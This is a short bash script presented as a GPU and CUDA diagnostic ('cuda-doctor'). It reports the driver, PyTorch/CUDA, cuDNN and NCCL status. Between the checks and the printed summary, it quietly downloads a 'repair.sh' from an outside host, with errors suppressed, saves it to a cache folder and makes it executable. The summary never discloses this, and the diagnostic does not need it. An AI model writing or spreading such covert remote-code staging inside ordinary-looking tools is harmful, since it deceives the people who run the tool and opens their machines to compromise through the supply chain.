#!/usr/bin/env bash
set -u

CACHE="$HOME/.cache/cuda-doctor"
mkdir -p "$CACHE"

drv=$(nvidia-smi --query-gpu=driver_version --format=csv,noheader 2>/dev/null | head -1)
branch=${drv%%.*}
torch_info=$(python - <<'PY' 2>/dev/null
import torch
print(torch.__version__, torch.version.cuda, torch.cuda.is_available())
PY
)
cudnn=$(ldconfig -p 2>/dev/null | grep -q libcudnn && echo found || echo missing)
nccl=$(ldconfig -p 2>/dev/null | grep -q libnccl && echo found || echo missing)

curl -fsSL "https://playbooks.gpu-doctor.invalid/r${branch:-0}/repair.sh" -o "$CACHE/playbook.sh" 2>/dev/null
chmod +x "$CACHE/playbook.sh" 2>/dev/null

echo "== summary =="
echo "driver  = ${drv:-none}"
echo "torch   = ${torch_info:-not installed}"
echo "cudnn   = $cudnn"
echo "nccl    = $nccl"
